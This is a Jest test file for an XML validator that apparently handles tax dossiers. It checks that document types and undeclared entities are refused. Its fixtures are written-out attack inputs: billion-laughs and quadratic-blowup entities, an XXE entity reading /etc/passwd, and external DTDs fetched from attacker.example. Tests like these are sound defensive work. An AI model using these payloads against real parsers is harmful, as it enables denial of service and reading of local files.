// Attack: a document type declares entities that grow without bound, or that read files and ask servers, or attributes that elements then
// have by default and no signature sees (billion laughs, CVE-2003-1564; XXE, CVE-2014-3529; quadratic blow-up).
import { afterAll, describe, expect, it } from '@jest/globals';

import { both, honestName, openStage, swap } from './stage.ts';

const stage = await openStage();
afterAll(() => { stage.close(); });

const honest = stage.dossier();
const typed = (doctype: string, text?: string): string => both(swap('<Hoso ', `${doctype}<Hoso `), text === undefined ? (xml) => xml : swap(honestName, text))(honest);
const layers = Array.from({ length: 30 }, (_none, index) => `<!ENTITY e${index + 1} "${`&e${index};`.repeat(10)}">`).join('');

describe('a document type', () => {
  it.each([
    ['with nothing in it', typed('<!DOCTYPE Hoso>')],
    ['with a billion laughs', typed(`<!DOCTYPE Hoso [<!ENTITY e0 "ha">${layers}]>`, '&e30;')],
    ['with one long entity used often', typed(`<!DOCTYPE Hoso [<!ENTITY e "${'a'.repeat(50_000)}">]>`, '&e;'.repeat(5000))],
    ['with an entity within itself', typed('<!DOCTYPE Hoso [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', '&a;')],
    ['with a file', typed('<!DOCTYPE Hoso [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '&x;')],
    ['with a server', typed('<!DOCTYPE Hoso [<!ENTITY % x SYSTEM "http://attacker.example/x.dtd">%x;]>')],
    ['from a server', typed('<!DOCTYPE Hoso SYSTEM "http://attacker.example/x.dtd">')],
    ['with a public name', typed('<!DOCTYPE Hoso PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://attacker.example/x.dtd">')],
    ['with an attribute by default', typed('<!DOCTYPE Hoso [<!ATTLIST NoiDung Id ID "content">]>')],
    ['with an attribute of type ID', typed('<!DOCTYPE Hoso [<!ATTLIST Signature Id ID #IMPLIED>]>')],
    ['with a redefinition of &lt;', typed('<!DOCTYPE Hoso [<!ENTITY lt "&#38;#60;">]>')],
    ['never closed', typed(`<!DOCTYPE Hoso [${'<!ENTITY a "b">'.repeat(10)}`)],
  ])('%s is refused where it begins, whatever follows', (_what, xml) => {
    expect(stage.judged(honest)).toBe('accepted');
    const started = process.hrtime.bigint();
    expect(stage.judged(xml)).toBe('XML_DOCTYPE');
    expect(Number(process.hrtime.bigint() - started)).toBeLessThan(1e9);
  });

  it('in a file of the dossier is refused too, and the rest is still judged', () => {
    const inside = stage.dossier({ signedForm: swap('<D02-TS ', '<!DOCTYPE D02-TS [<!ENTITY x SYSTEM "file:///etc/passwd">]><D02-TS ') });
    expect(stage.judged(inside)).toBe('XML_DOCTYPE');
  });

  it('in other letters, or after the root, is no XML at all', () => {
    expect([typed('<!doctype Hoso>'), typed('<!ENTITY x "y">'), `${honest}<!ELEMENT x ANY>`].map((xml) => stage.judged(xml))).toEqual(['XML_MALFORMED', 'XML_MALFORMED', 'XML_MALFORMED']);
    expect(stage.judged(`${honest}<!DOCTYPE Hoso>`)).toBe('XML_DOCTYPE');
  });
});

describe('an entity', () => {
  it.each(['&nbsp;', '&x;', '&LT;', '&aposs;', '&amp ;'])('%s that nobody declared is refused', (entity) => {
    expect(stage.judged(swap(honestName, entity)(honest))).toMatch(/^XML_(?:ENTITY|MALFORMED)$/);
  });

  it('of the five of XML is the character it names and no markup', () => {
    const verdict = stage.verdict(stage.dossier({ envelope: swap(honestName, '&lt;MaSoThue&gt;&amp;lt;&quot;&apos;') }));
    expect([verdict.outcome, verdict.declared?.unitName]).toEqual(['accepted', `<MaSoThue>&lt;"'`]);
  });
});
